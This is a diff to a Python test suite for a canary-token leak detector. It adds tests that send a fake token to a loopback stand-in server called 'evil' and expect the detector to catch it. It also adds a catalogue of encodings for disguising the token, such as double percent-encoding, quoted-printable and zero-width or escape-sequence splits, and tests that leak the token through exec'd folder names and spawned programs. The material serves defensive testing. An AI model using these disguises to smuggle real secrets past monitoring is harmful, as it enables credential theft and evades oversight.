@@ -19,7 +19,8 @@ from hardenme.cli.console import Console
 from hardenme.sandbox.github import scenarios
 from hardenme.sandbox.github.server import github_sandbox
 from hardenme.sandbox.http import LoopbackServer, Reply
-from tests.canaries import CHANNELS, SWEEP, Listener, Sweep, astray, left_behind, seen, state
+from tests.canaries import CHANNELS, SWEEP, Listener, Sweep, astray, left_behind, state
+from tests.canary_forms import seen
 from tests.collectors.raw_server import RawServer, says
 from tests.collectors.reader import session
 
@@ -46,6 +47,22 @@ DISGUISES: dict[str, Callable[[str], str]] = {
     "split by zero width": "\u200b".join,
     "split by an escape": "\\u200b".join,
     "split by soft hyphens": "\u00ad".join,
+    "percent-encoded twice": lambda token: "".join(f"%25{ord(char):02x}" for char in token),
+    "escaped twice": lambda token: "".join(f"\\\\u{ord(char):04x}" for char in token),
+    "escaped in eight": lambda token: "".join(f"\\U{ord(char):08x}" for char in token),
+    "percent-encoded for HTML": lambda token: "".join(f"&#37;{ord(char):02x}" for char in token),
+    "hex with colons": lambda token: ":".join(f"{ord(char):02x}" for char in token),
+    "quoted-printable": lambda token: "".join(f"={ord(char):02X}" for char in token),
+    "base64 percent-encoded": lambda token: quote(base64.b64encode(f"?{token}".encode()), safe=""),
+    "in UTF-16": "\0".join,
+    "split by a reference": lambda token: token.replace("CANA", "CAN&shy;A"),
+    "split by an encoded line": lambda token: token.replace("CANA", "CAN%0D%0AA"),
+    "split by an escaped colour": lambda token: token.replace("CANA", "CAN\\u001b[31mA"),
+    "split by a character set": lambda token: token.replace("CANA", "CAN\x1b(BA"),
+    "split by a tag": lambda token: token.replace("CANA", "CAN</b><wbr>A"),
+    "split by marks": lambda token: token.replace("CANA", "CAN**A"),
+    "split by the lines of a table": lambda token: token.replace("CANA", "CAN |\n| A"),
+    "split by quotes": lambda token: token.replace("CANA", "CAN',\n  'A"),
     "split by blanks": lambda token: token.replace("CANA", "CA  NA"),
 }
 
@@ -71,11 +88,15 @@ def test_each_channel_is_looked_through() -> None:
     heads = Sweep()
     heads.said.append(TOKEN)
     heads.children.append(f"program\0--token\0{TOKEN}")
+    heads.written[f"/nowhere/{TOKEN}.json"] = None
+    heads.read.append(TOKEN)
     assert [line.partition(":")[0] for line in heads.end(sections)] == [
         "output",
         "log",
+        "output",
         "console",
         "child",
+        "file",
     ]
     assert heads.end(sections, CHANNELS) == []
 
@@ -114,6 +135,21 @@ def asks(url: str, token: str, header: str = "Authorization") -> None:
         pass
 
 
+def sends(url: str, said: str, way: str) -> None:
+    """Send something in one part of a request."""
+    path, headers = "/user", {}
+    if way == "header":
+        headers["X-Said"] = said
+    elif way == "path":
+        path = f"/{quote(said, safe='%')}"
+    elif way == "query":
+        path = f"/user?a={quote(said, safe='%')}"
+    body = said.encode() if way == "body" else None
+    request = urllib.request.Request(url + path, body, headers)  # noqa: S310 (loopback)
+    with urllib.request.urlopen(request):  # noqa: S310 (as above)
+        pass
+
+
 @pytest.mark.canaries_may_show("request")
 def test_a_token_that_reaches_two_servers_went_astray() -> None:
     with (
@@ -131,6 +167,32 @@ def test_a_token_that_reaches_two_servers_went_astray() -> None:
         coded = base64.b64encode(f"user:{PREFIXLESS}".encode()).decode()
         asks(other.url, f"Basic {coded}")
         assert any(raw.url in line for line in astray(SWEEP.listeners))
+
+
+SENT = {
+    "as it is": str,
+    "in a word": lambda token: f"x{token}",
+    "in pieces": lambda token: f"{token[:7]}%20{token[7:]}",
+    **{name: DISGUISES[name] for name in ("base64", "base64 after one", "base64 after two")},
+    **{name: DISGUISES[name] for name in ("hex", "upper hex", "reversed", "percent-encoded")},
+    **{name: DISGUISES[name] for name in ("percent-encoded twice", "escaped", "for HTML")},
+    "base64 percent-encoded": DISGUISES["base64 percent-encoded"],
+}
+
+
+@pytest.mark.canaries_may_show("request")
+@pytest.mark.parametrize("way", ["header", "path", "query", "body"])
+def test_a_token_that_is_sent_in_a_disguise_is_the_same(way: str) -> None:
+    with (
+        LoopbackServer(lambda _: Reply(data={})) as own,
+        LoopbackServer(lambda _: Reply(data={})) as evil,
+    ):
+        asks(own.url, TOKEN)
+        for name, disguise in SENT.items():
+            evil.requests.clear()
+            sends(evil.url, disguise(TOKEN), way)
+            told = list(astray(SWEEP.listeners))
+            assert any(f"and to {evil.url}" in line for line in told), name
 
 
 @pytest.mark.canaries_may_show("request")
@@ -190,6 +252,17 @@ def test_file(tmp_path): PrivateFile(tmp_path / "report").write(TOKEN[::-1])
 def test_child(tmp_path, monkeypatch):
     monkeypatch.setattr("hardenme.collectors.workflows.zizmor._environment", lambda _: {"T": TOKEN})
     Analyser(program=Path("/bin/true")).scan(["on: push"])
+def test_taken_from_the_capture(capsys):
+    print(TOKEN)
+    capsys.readouterr()
+def test_name_of_a_folder(tmp_path):
+    from hardenme.cli import facts_file
+    line = "import os; os.mkdir(path)"
+    exec(compile(line, facts_file.__file__, "exec"), {"path": tmp_path / TOKEN})
+def test_program():
+    from hardenme.cli import facts_file
+    line = "import os; os.waitpid(os.posix_spawn('/bin/true', ['true', word], {}), 0)"
+    exec(compile(line, facts_file.__file__, "exec"), {"word": TOKEN})
 def test_request():
     with LoopbackServer(lambda _: Reply()) as one, LoopbackServer(lambda _: Reply()) as two:
         asks(one.url, TOKEN)
@@ -224,7 +297,8 @@ def test_a_test_that_leaks_fails(tmp_path: Path) -> None:
     }
     assert broken == {
         *("test_output", "test_error", "test_log", "test_console", "test_file", "test_child"),
-        *("test_request", "test_fixture"),
+        *("test_request", "test_fixture", "test_taken_from_the_capture"),
+        *("test_name_of_a_folder", "test_program"),
     }, done.stdout + done.stderr
     assert "canary sweep" in done.stdout
     assert "a canary (reversed) in " in done.stdout
